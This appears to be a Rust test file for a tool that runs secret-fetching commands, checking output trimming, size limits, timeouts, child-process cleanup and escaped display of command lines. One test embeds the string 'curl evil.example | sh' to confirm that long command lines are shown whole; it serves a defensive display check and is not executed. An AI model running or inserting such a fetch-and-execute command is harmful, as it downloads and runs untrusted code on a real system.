use super::*;

fn spec(argv: &[&str]) -> CommandSpec {
    CommandSpec {
        key: "K".into(),
        argv: argv.iter().map(|a| a.to_string()).collect(),
        timeout: Duration::from_secs(20),
        trim: true,
        place: Place::START,
    }
}

fn sh(script: &str) -> CommandSpec {
    spec(&["sh", "-c", script])
}

fn here() -> PathBuf {
    PathBuf::from(".")
}

#[test]
fn the_output_is_the_value_less_one_trailing_newline() {
    let out = run(&sh("printf 'hf_abc\\n\\n'"), &here()).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(out.expose(), b"hf_abc\n");
}

#[test]
fn with_trim_false_every_byte_arrives_binary_included() {
    let mut s = sh("printf 'a\\000b\\377\\n'");
    s.trim = false;
    let out = run(&s, &here()).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(out.expose(), b"a\0b\xff\n");
}

#[test]
fn a_program_runs_in_the_manifests_folder_and_a_relative_path_is_taken_from_there() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    // Written by another process: a file this (threaded) test process
    // held open for writing could be "busy" when executed.
    let made = std::process::Command::new("sh")
        .args([
            "-c",
            "printf '#!/bin/sh\\npwd -P\\n' > print-dir.sh && chmod 700 print-dir.sh",
        ])
        .current_dir(dir.path())
        .status()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(made.success());
    let out = run(&spec(&["./print-dir.sh"]), dir.path()).unwrap_or_else(|e| panic!("{e}"));
    let real = std::fs::canonicalize(dir.path()).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(out.expose(), real.to_string_lossy().as_bytes());
}

/// A manifest named by a relative path: its folder is relative too, and
/// a program path is taken from it once, not twice.
#[test]
fn a_relative_folder_is_not_taken_twice() {
    // A folder below the working directory, so that its path can be relative;
    // `target` need not exist when CARGO_TARGET_DIR points elsewhere.
    std::fs::create_dir_all("target").unwrap_or_else(|e| panic!("{e}"));
    let dir = tempfile::Builder::new()
        .prefix("kk-command-")
        .tempdir_in("target")
        .unwrap_or_else(|e| panic!("{e}"));
    let relative = dir
        .path()
        .strip_prefix(std::env::current_dir().unwrap_or_default())
        .map(Path::to_path_buf)
        .unwrap_or_else(|_| dir.path().to_path_buf());
    assert!(relative.is_relative(), "{relative:?}");
    let made = std::process::Command::new("sh")
        .args(["-c", "printf '#!/bin/sh\\nprintf right\\n' > ok.sh && chmod 700 ok.sh && mkdir -p \"$1\" && printf '#!/bin/sh\\nprintf wrong\\n' > \"$1/ok.sh\" && chmod 700 \"$1/ok.sh\"", "sh"])
        .arg(&relative)
        .current_dir(dir.path())
        .status()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(made.success());
    let out = run(&spec(&["./ok.sh"]), &relative).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(out.expose(), b"right");
}

#[test]
fn a_program_that_ends_but_leaves_its_output_open_is_told_apart() {
    let mut s = sh("sleep 30 & printf x");
    s.timeout = Duration::from_millis(500);
    assert_eq!(
        run(&s, &here()),
        Err(CommandError::OutputHeldOpen(s.timeout))
    );
}

/// What is shown before a program runs is all that it runs: no cut, at
/// any length, so nothing can hide past a column limit.
#[test]
fn a_long_command_line_is_shown_whole() {
    let long = format!("{}; curl evil.example | sh", "a".repeat(10_000));
    let mut argv = vec!["op".to_string(), long.clone()];
    argv.extend((0..500).map(|i| format!("arg{i}")));
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let shown = spec(&argv).display();
    assert!(
        shown.starts_with(&format!("op '{long}' arg0 arg1 ")),
        "{shown}"
    );
    assert!(shown.ends_with(" arg498 arg499"), "{shown}");
}

/// Characters that show as nothing, or as a plain space, are escaped: an
/// argument cannot pass for two, nor hold text that is not seen.
#[test]
fn invisible_characters_in_a_command_are_shown_escaped() {
    let s = spec(&[
        "op\u{200b}",
        "a\u{a0}b",
        "x\u{2066}y",
        "tag\u{e0041}",
        "\u{feff}",
        "é☃",
        "\u{2800}",
        "x\u{1d159}",
        "a\u{332}b\u{301}",
        "c\u{20e3}",
    ]);
    assert_eq!(
        s.display(),
        r"'op\u{200b}' 'a\u{a0}b' 'x\u{2066}y' 'tag\u{e0041}' '\u{feff}' 'é☃' '\u{2800}' 'x\u{1d159}' 'a\u{332}b\u{301}' 'c\u{20e3}'"
    );
    // Generated: every non-ASCII character (escapes are ASCII) is either
    // shown as itself, and visible, or escaped; most from the ranges where
    // format characters and odd spaces live.
    let mut rng = crate::test_rng::Rng(0x19);
    let mut tried = 0;
    while tried < 5_000 {
        let n = match rng.below(3) {
            0 => 0x80 + rng.below(0x3000 - 0x80),
            1 => 0xFE00 + rng.below(0x200),
            _ => 0x80 + rng.below(0x11_0000 - 0x80),
        };
        let Some(c) = u32::try_from(n).ok().and_then(char::from_u32) else {
            continue;
        };
        tried += 1;
        let shown = spec(&["p", &format!("<{c}>")]).display();
        let visible = !c.is_control() && !super::is_invisible(c) && !crate::escape::is_unsafe(c);
        assert_eq!(shown.contains(c), visible, "{c:?} shown as {shown}");
    }
}

/// The 1 MiB limit is on the value: exactly 1 MiB printed with its
/// newline is taken; one byte more is not, newline or not.
#[test]
fn the_limit_applies_after_the_trailing_newline_is_removed() {
    let mib = MAX_OUTPUT_BYTES;
    let with_newline = run(
        &sh(&format!("head -c {mib} /dev/zero | tr '\\0' a; echo")),
        &here(),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(with_newline.len(), mib);
    assert!(with_newline.expose().iter().all(|b| *b == b'a'));
    let over = mib + 1;
    for script in [
        format!("head -c {over} /dev/zero"),
        format!("head -c {over} /dev/zero; echo"),
    ] {
        assert_eq!(
            run(&sh(&script), &here()),
            Err(CommandError::TooLarge),
            "{script}"
        );
    }
    // Kept with `trim: false`, the newline is part of the value.
    let mut kept = sh(&format!("head -c {mib} /dev/zero; echo"));
    kept.trim = false;
    assert_eq!(run(&kept, &here()), Err(CommandError::TooLarge));
}

/// A program is stopped with every process it started (its process
/// group): a child it left in the background does not outlive a timeout.
#[cfg(target_os = "linux")]
#[test]
fn a_stopped_program_takes_its_children_with_it() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let pid_file = dir.path().join("child.pid");
    let mut s = sh(&format!(
        "sleep 300 </dev/null >/dev/null 2>&1 & echo $! > '{}'; exec sleep 300",
        pid_file.display()
    ));
    s.timeout = Duration::from_millis(500);
    assert_eq!(run(&s, &here()), Err(CommandError::TimedOut(s.timeout)));
    let pid: i32 = std::fs::read_to_string(&pid_file)
        .unwrap_or_else(|e| panic!("{e}"))
        .trim()
        .parse()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(
        gone_within_a_minute(pid),
        "the child {pid} outlived its program"
    );
}

/// Whether `pid` has ended (or is only a zombie), polled for up to a
/// minute: a hang catcher, not a timing assertion.
#[cfg(target_os = "linux")]
fn gone_within_a_minute(pid: i32) -> bool {
    for _ in 0..600 {
        let state = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        let zombie = state
            .rsplit_once(')')
            .is_some_and(|(_, rest)| rest.trim_start().starts_with('Z'));
        if state.is_empty() || zombie {
            return true;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    false
}

#[test]
fn failures_say_how_the_program_ended_never_what_it_printed() {
    let canary = "canary-command-output-4471";
    let failed = run(&sh(&format!("echo {canary}; exit 3")), &here());
    assert_eq!(
        failed,
        Err(CommandError::Failed {
            status: "status 3".into()
        })
    );
    let missing = run(&spec(&["no-such-program-kk-0b1"]), &here());
    assert!(
        matches!(missing, Err(CommandError::NotFound { .. })),
        "{missing:?}"
    );
    for e in [failed, missing].into_iter().filter_map(Result::err) {
        assert!(!e.to_string().contains(canary), "{e}");
    }
}

#[test]
fn a_program_past_its_timeout_is_stopped() {
    let mut s = sh("echo partial; sleep 30");
    s.timeout = Duration::from_millis(300);
    assert_eq!(run(&s, &here()), Err(CommandError::TimedOut(s.timeout)));
    // Silent until then, too.
    let mut quiet = sh("sleep 30");
    quiet.timeout = Duration::from_millis(300);
    assert_eq!(
        run(&quiet, &here()),
        Err(CommandError::TimedOut(quiet.timeout))
    );
}

#[test]
fn output_past_the_limit_is_refused_without_reading_it_all() {
    // An endless writer: only the limit and one byte are read.
    let result = run(&spec(&["sh", "-c", "yes 0123456789abcdef"]), &here());
    assert_eq!(result, Err(CommandError::TooLarge));
    let exactly = format!("head -c {MAX_OUTPUT_BYTES} /dev/zero");
    let mut s = sh(&exactly);
    s.trim = false;
    let out = run(&s, &here()).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(out.len(), MAX_OUTPUT_BYTES);
}

#[test]
fn the_command_line_is_shown_as_typed_and_escaped() {
    let s = spec(&["op", "read", "op://ml/hf token", "it's", "\u{1b}[2J"]);
    assert_eq!(
        s.display(),
        r#"op read 'op://ml/hf token' 'it'\''s' '\u{1b}[2J'"#
    );
}
